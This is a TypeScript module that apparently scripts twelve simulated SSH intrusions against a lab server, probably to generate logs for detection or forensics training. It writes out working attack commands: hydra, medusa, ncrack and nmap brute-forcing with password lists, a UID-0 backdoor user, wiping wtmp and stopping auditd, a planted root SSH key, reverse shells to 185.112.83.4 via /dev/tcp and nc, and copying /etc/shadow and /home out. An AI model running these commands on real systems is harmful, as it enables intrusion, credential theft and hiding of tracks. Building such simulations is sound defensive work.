/**
 * Twelve break-ins and attempts, each by a tool or a way of its own, so that what is learnt of some is tried on others. None
 * says by its client's name what it is: sshd does not log that.
 */
import { shuffled } from '../seeded.ts';
import { BACKUP, GITA } from './people.ts';
import { instantOf, quoted, type Step } from './step.ts';

const PASSWORDS = [
  ...[
    '123456',
    'password',
    '12345678',
    'qwerty',
    'abc123',
    'root',
    'toor',
    'admin',
    'letmein',
    'welcome',
    'monkey',
  ],
  ...[
    'dragon',
    'master',
    'iloveyou',
    'P@ssw0rd',
    'changeme',
    'test',
    'guest',
    'raspberry',
    'ubuntu',
    'oracle',
    'pass',
  ],
  ...[
    '1q2w3e4r',
    'qwerty123',
    'zaq12wsx',
    'admin123',
    'root123',
    'server',
    'linux',
    'debian',
    'hunter2',
    'secret',
  ],
] as const;

/** Each way has a list of names of its own, as tools do. */
const NAMES = {
  medusa: ['root', 'admin', 'test', 'guest', 'oracle', 'user', 'ftp', 'pi', 'anna', 'mysql'],
  ncrack: ['administrator', 'root', 'postgres', 'support', 'web', 'nagios', 'hadoop', 'git', 'ben'],
  nmap: ['root', 'netadmin', 'webadmin', 'sysadmin', 'tomcat', 'jenkins'],
  enumeration: [
    ...[
      'aaron',
      'adam',
      'alex',
      'alice',
      'andrew',
      'anna',
      'bob',
      'carl',
      'chris',
      'dave',
      'diana',
      'emma',
      'erik',
      'frank',
    ],
    ...[
      'georg',
      'hans',
      'helen',
      'ivan',
      'jack',
      'jane',
      'john',
      'julia',
      'karl',
      'laura',
      'lisa',
      'maria',
      'max',
      'mike',
    ],
    ...[
      'nina',
      'olga',
      'paul',
      'peter',
      'rita',
      'sam',
      'sara',
      'steve',
      'tom',
      'vera',
      'will',
      'backup',
      'deploy',
      'dev',
    ],
  ],
  spraying: [
    'info',
    'office',
    'sales',
    'hr',
    'mail',
    'gita',
    'dora',
    'emil',
    'kevin',
    'accounting',
    'vpn',
    'support',
    'service',
  ],
};

function lines(items: readonly string[], file: string): string {
  return `printf '%s\\n' ${items.map(quoted).join(' ')} > ${file}`;
}

/** A step at a time of day, and those that follow it some seconds apart. */
function at(
  incident: string,
  day: number,
  hour: number,
  scripts: readonly string[],
  apartMs = 20_000,
): Step[] {
  return scripts.map((script, index) => ({ atMs: instantOf(day, hour) + index * apartMs, incident, script }));
}

/** With a password that was stolen, at a terminal. */
function asGita(address: string, commands: readonly string[]): string {
  const typed = commands.map(command => `printf '%s\\n' ${quoted(GITA.password)} | sudo -S -p "" ${command}`);
  return `OPTIONS="$OPTIONS -tt" by_password ${address} gita ${quoted(typed.join('; '))} ${quoted(GITA.password)}`;
}

function asWebServer(command: string): string {
  return `setpriv --reuid=www-data --regid=www-data --init-groups bash -c ${quoted(`cd /var/www; ${command}`)} </dev/null`;
}

/** @param random deals the lists of passwords */
export function attacksOf(random: () => number): Step[] {
  const some = (count: number) => shuffled(PASSWORDS, random).slice(0, count);
  return [
    ...at('hydra', 2, 23.17, [
      `from 45.148.10.77; ${lines(some(30), '/tmp/passwords')}; hydra -I -q -t 4 -l root -P /tmp/passwords ssh://$SERVER`,
    ]),
    ...at('hydra', 8, 3.7, [
      `from 141.98.11.23; ${lines(some(12), '/tmp/passwords')}; ${lines(['root', 'admin', 'ubuntu', 'chris'], '/tmp/names')}; hydra -I -q -t 3 -L /tmp/names -P /tmp/passwords ssh://$SERVER`,
    ]),
    ...at('medusa', 3, 4.4, [
      `from 218.92.0.112; ${lines(NAMES.medusa, '/tmp/names')}; ${lines(some(8), '/tmp/passwords')}; medusa -h $SERVER -U /tmp/names -P /tmp/passwords -M ssh -t 3`,
    ]),
    ...at('ncrack', 6, 15.3, [
      `from 61.177.172.140; ${lines(NAMES.ncrack, '/tmp/names')}; ${lines(some(8), '/tmp/passwords')}; timeout 40 ncrack -T4 -U /tmp/names -P /tmp/passwords ssh://$SERVER`,
    ]),
    ...at('nmap', 5, 11.6, [
      `from 193.32.162.9; nmap -n -Pn -p 22 -sV --script ssh2-enum-algos,ssh-hostkey,ssh-auth-methods $SERVER`,
      `from 193.32.162.9; ${lines(NAMES.nmap, '/tmp/names')}; ${lines(some(6), '/tmp/passwords')}; timeout 45 nmap -n -Pn -p 22 --script ssh-brute --script-args userdb=/tmp/names,passdb=/tmp/passwords,brute.threads=3 $SERVER`,
    ]),
    ...at(
      'spraying',
      3,
      13.1,
      some(4).flatMap((password, round) =>
        NAMES.spraying.map(name => `by_password 185.220.101.${30 + round} ${name} true ${quoted(password)}`),
      ),
      47_000,
    ),
    ...at(
      'enumeration',
      4,
      2.8,
      NAMES.enumeration.map(
        name =>
          `has 103.55.38.4; ssh -n $OPTIONS -o BatchMode=yes -o PreferredAuthentications=none -b 103.55.38.4 ${name}@$SERVER`,
      ),
      1_500,
    ),
    ...at(
      'banners',
      9,
      9.4,
      [
        "says 162.142.125.14 'GET / HTTP/1.1\\r\\nHost: 10.20.0.5\\r\\n\\r\\n'",
        "says 162.142.125.14 '\\x16\\x03\\x01\\x00\\xee\\x01\\x00\\x00\\xea\\x03\\x03'",
        "says 162.142.125.14 'MGLNDD_10.20.0.5_22\\n'",
        "says 167.94.138.50 'SSH-2.0-Go\\r\\n'",
        "says 167.94.138.50 '\\x03\\x00\\x00\\x13\\x0e\\xe0\\x00\\x00'",
        "says 167.94.138.50 'SSH-1.5-Server\\r\\n'",
        "says 162.142.125.14 'EHLO a\\r\\nQUIT\\r\\n'",
        "says 80.82.77.33 'SSH-2.0-ZGrab ZGrab SSH Survey\\r\\n\\x00\\x00\\x00\\x0c\\x0a'",
        "says 80.82.77.33 'OPTIONS sip:nm SIP/2.0\\r\\n\\r\\n'",
        'for n in 1 2 3 4 5 6; do says 80.82.77.33 ""; done',
      ],
      9_000,
    ),
    ...at(
      'stolen-password',
      4,
      22.6,
      [
        asGita('37.120.217.8', [
          '-l',
          'id',
          '/bin/bash -c id',
          "vim -c ':!/bin/sh' /etc/hosts",
          'cat /etc/shadow',
        ]),
        asGita('37.120.217.8', [
          "find / -maxdepth 1 -exec /bin/sh -c id ';'",
          'cp /bin/bash /tmp/.x',
          'chmod 4755 /tmp/.x',
          'tcpdump -i any -c 1',
        ]),
        asGita('37.120.217.8', [
          'useradd -o -u 0 -g 0 -M -s /bin/bash sysupd',
          "sh -c 'echo sysupd:Zx9 | chpasswd'",
          'iptables -F',
          "sh -c 'cat /dev/null > /var/log/wtmp'",
        ]),
        'OPTIONS="$OPTIONS -tt" by_password 37.120.217.8 sysupd \'id; history -c\' Zx9',
      ],
      95_000,
    ),
    ...at(
      'persistence',
      8,
      21.2,
      [
        "KEY=deploy by_key 91.214.124.16 deploy 'sudo -n true; sudo bash -p -c id; sudo cat ~root/.ssh/id_rsa' -tt",
        'KEY=deploy by_key 91.214.124.16 deploy \'sudo mkdir -p ~root/.ssh; sudo sh -c "echo ssh-ed25519 AAAAC3Nz kali >> ~root/.ssh/authorized_keys"; sudo tee -a /etc/crontab </etc/hosts\' -tt',
        'KEY=deploy by_key 91.214.124.16 deploy \'sudo usermod -aG sudo www-data; sudo adduser --disabled-password --gecos x sshdx; sudo usermod -aG sudo,adm sshdx; sudo sh -c "echo sshdx:Aa1 | chpasswd"\' -tt',
        "KEY=deploy by_key 91.214.124.16 deploy 'sudo curl -s http://91.214.124.16/k.sh -o /tmp/.k; sudo chattr +i /tmp/.k; sudo systemctl stop auditd; sudo pkill -9 rsyslog-none; sudo rm -f /var/log/wtmp.1' -tt",
        'by_password 91.214.124.16 sshdx \'printf "Aa1\\n" | sudo -S -p "" su -c id\' Aa1',
      ],
      70_000,
    ),
    ...at(
      'web-shell',
      9,
      16.8,
      [
        asWebServer('sudo -l; sudo -n id; sudo -u root /bin/bash'),
        asWebServer("sudo -n /bin/sh -c 'bash -i >& /dev/tcp/185.112.83.4/4444 0>&1'"),
        asWebServer(
          'for p in root toor admin shop; do echo $p | su root -c id; echo $p | su deploy -c id; done',
        ),
        asWebServer(
          'sudo -n python3 -c \'import os; os.system("/bin/sh")\'; sudo -n perl -e \'exec "/bin/sh"\'; sudo -n nc -e /bin/sh 185.112.83.4 4445',
        ),
        asWebServer('crontab -r; chsh -s /bin/bash; passwd </dev/null'),
      ],
      40_000,
    ),
    ...at(
      'su-guessing',
      7,
      20.1,
      [
        `KEY=emil by_key 10.20.0.25 emil ${quoted(`for p in ${some(14).map(quoted).join(' ')}; do echo "$p" | su root -c id; done`)}`,
        `KEY=emil by_key 10.20.0.25 emil ${quoted(`for u in anna ben gita deploy postgres; do for p in ${some(3).map(quoted).join(' ')}; do echo "$p" | su $u -c id; done; done; printf "x\\ny\\nz\\n" | sudo -S -p "" -u anna ls /home/anna`)}`,
      ],
      120_000,
    ),
    ...at(
      'copying-out',
      10,
      3.3,
      [
        `KEY=${BACKUP.name} by_key 198.98.51.189 ${BACKUP.name} 'sudo tar -czf /tmp/home.tgz /home; sudo tar -czf /tmp/etc.tgz /etc/shadow /etc/passwd; sudo tar cf /dev/null /dev/null --checkpoint=1 --checkpoint-action=exec=/bin/true; sudo -n cat /etc/shadow' -tt`,
        `has 198.98.51.189; sftp -q $OPTIONS -i /keys/${BACKUP.name} -o IdentitiesOnly=yes -o BindAddress=198.98.51.189 ${BACKUP.name}@$SERVER <<< $'ls -la /home\\nget /tmp/home.tgz /tmp/h.tgz\\nget /tmp/etc.tgz /tmp/e.tgz\\nget /etc/passwd /tmp/p\\nget /etc/ssh/sshd_config /tmp/s\\nrm /tmp/home.tgz'`,
        `has 198.98.51.189; for f in /etc/passwd /etc/group /etc/hosts /etc/fstab /tmp/etc.tgz; do scp -q $OPTIONS -o BindAddress=198.98.51.189 -i /keys/${BACKUP.name} -o IdentitiesOnly=yes ${BACKUP.name}@$SERVER:$f /tmp/out; done`,
      ],
      60_000,
    ),
  ];
}
